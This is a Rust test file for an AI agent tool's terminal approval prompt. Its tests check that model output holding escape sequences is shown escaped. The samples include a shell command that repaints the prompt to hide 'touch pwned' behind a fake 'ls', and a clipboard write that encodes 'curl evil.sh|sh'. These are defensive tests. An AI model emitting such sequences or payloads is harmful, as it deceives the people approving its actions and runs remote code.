//! The approval prompt at a real terminal: corral runs inside tmux, the test reads the screen
//! and presses keys. Also what reaches the terminal raw: model text with escape sequences
//! (a screen clear and a fake prompt, an OSC 52 clipboard write, a bidi override) must be
//! shown escaped, never obeyed.

use std::path::Path;

use crate::support::{FakeModel, Harness, Reply, Tmux};

fn command_line(server: &FakeModel, work: &Path, prompt: &str) -> String {
    format!(
        "{} run -m llamacpp:m --base-url {} -C {} '{prompt}'; echo EXIT=$?; sleep 60",
        env!("CARGO_BIN_EXE_corral"),
        server.openai_base(),
        work.display()
    )
}

#[tokio::test]
async fn a_person_approves_with_one_key_after_seeing_the_diff() {
    let h = Harness::new();
    std::fs::write(h.work().join("notes.txt"), "draft\n").unwrap();
    let server = FakeModel::start().await;
    server.push(Reply::new().tool_call(
        "c1",
        "write_file",
        r#"{"path":"notes.txt","content":"final\n"}"#,
    ));
    server.push(Reply::new().text("Saved."));
    let tmux = Tmux::start(&h, &command_line(&server, &h.work(), "finish the notes"));
    let screen = tmux
        .wait_for("[y]es [n]o [a]lways [d]isable [f]orbid-all [c]ancel")
        .await;
    assert!(
        screen.contains("write_file wants to run (moderate"),
        "{screen}"
    );
    assert!(
        screen.contains("-draft") && screen.contains("+final"),
        "{screen}"
    );
    tmux.keys("y");
    let screen = tmux.wait_for("EXIT=").await;
    assert!(screen.contains("EXIT=0"), "{screen}");
    assert!(screen.contains("Saved."), "{screen}");
    assert_eq!(
        std::fs::read_to_string(h.work().join("notes.txt")).unwrap(),
        "final\n"
    );
}

#[tokio::test]
async fn a_person_denies_and_the_model_is_told() {
    let h = Harness::new();
    let server = FakeModel::start().await;
    server.push(Reply::new().tool_call("c1", "write_file", r#"{"path":"x.txt","content":"x"}"#));
    server.push(Reply::new().text("Understood, not writing."));
    let tmux = Tmux::start(&h, &command_line(&server, &h.work(), "write x"));
    tmux.wait_for("[c]ancel").await;
    tmux.keys("n");
    let screen = tmux.wait_for("EXIT=").await;
    assert!(
        screen.contains("EXIT=0") && screen.contains("the user denied this call"),
        "{screen}"
    );
    assert!(!h.work().join("x.txt").exists());
}

/// The attack from the review: escape sequences in a shell comment clear the screen and paint
/// a harmless-looking command, so the person approves something else. The prompt shows the
/// sequences as text and the commands bash will really run.
#[tokio::test]
async fn escape_sequences_in_a_command_cannot_repaint_the_approval_prompt() {
    let h = Harness::new();
    let server = FakeModel::start().await;
    let command = "touch pwned # \u{1b}[2J\u{1b}[H\u{1b}[32m$ ls\u{1b}[0m \u{202e}gnp.txt";
    let arguments = serde_json::json!({ "command": command }).to_string();
    server.push(Reply::new().tool_call("c1", "shell", &arguments));
    server.push(Reply::new().text("Fine, not running it."));
    let (tmux, raw) = Tmux::start_recorded(&h, &command_line(&server, &h.work(), "tidy up"));
    let screen = tmux.wait_for("[c]ancel").await;
    assert!(
        screen.contains(r"$ touch pwned # \x1b[2J\x1b[H\x1b[32m$ ls\x1b[0m \u{202e}gnp.txt"),
        "the raw command, escaped:\n{screen}"
    );
    assert!(
        screen.contains("runs 1 command:") && screen.contains("▸ touch pwned\n"),
        "the command that really runs:\n{screen}"
    );
    assert!(screen.contains("shell wants to run (dangerous"), "{screen}");
    tmux.keys("n");
    let screen = tmux.wait_for("EXIT=").await;
    assert!(screen.contains("EXIT=0"), "{screen}");
    assert!(!h.work().join("pwned").exists());
    let written = std::fs::read(&raw).unwrap();
    for sequence in [&b"\x1b[2J"[..], b"\x1b[H", b"\xe2\x80\xae"] {
        assert!(
            !written.windows(sequence.len()).any(|w| w == sequence),
            "{sequence:?} reached the terminal raw"
        );
    }
}

/// Streamed model text carrying an OSC 52 clipboard write, a cursor move and a bidi override,
/// and a thought setting the window title: the terminal gets them as visible text. tmux (with set-clipboard on) turns a raw OSC 52
/// into a paste buffer, so an empty buffer list shows that none reached it.
#[tokio::test]
async fn streamed_text_cannot_write_the_clipboard_or_reorder_itself() {
    let h = Harness::new();
    let server = FakeModel::start().await;
    // "curl evil.sh|sh" in base64, split over chunks the way a stream arrives.
    server.push(
        Reply::new()
            .reasoning("thinking\u{1b}]0;window title\u{7}\n")
            .text("Here is the fix.\u{1b}]5")
            .text("2;c;Y3VybCBldmlsLnNofHNo\u{7}\u{1b}[1A Done: \u{202e}txt.exe\u{202c}\n"),
    );
    let (tmux, raw) = Tmux::start_recorded(&h, &command_line(&server, &h.work(), "fix it"));
    let screen = tmux.wait_for("EXIT=").await;
    assert!(screen.contains("EXIT=0"), "{screen}");
    assert!(
        screen.contains(
            r"Here is the fix.\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07\x1b[1A Done: \u{202e}txt.exe\u{202c}"
        ),
        "{screen}"
    );
    assert!(
        screen.contains(r"thinking\x1b]0;window title\x07"),
        "{screen}"
    );
    let buffers = tmux.run(&["list-buffers"]);
    assert!(
        buffers.trim().is_empty(),
        "OSC 52 set the clipboard: {buffers}"
    );
    let written = std::fs::read(&raw).unwrap();
    assert!(
        written.windows(4).any(|w| w == b"fix."),
        "the recording has the output"
    );
    for sequence in [
        &b"\x1b]52"[..],
        b"\x1b]0;",
        b"\x1b[1A",
        b"\x07",
        b"\xe2\x80\xae",
    ] {
        assert!(
            !written.windows(sequence.len()).any(|w| w == sequence),
            "{sequence:?} reached the terminal raw: {:?}",
            String::from_utf8_lossy(&written)
        );
    }
}
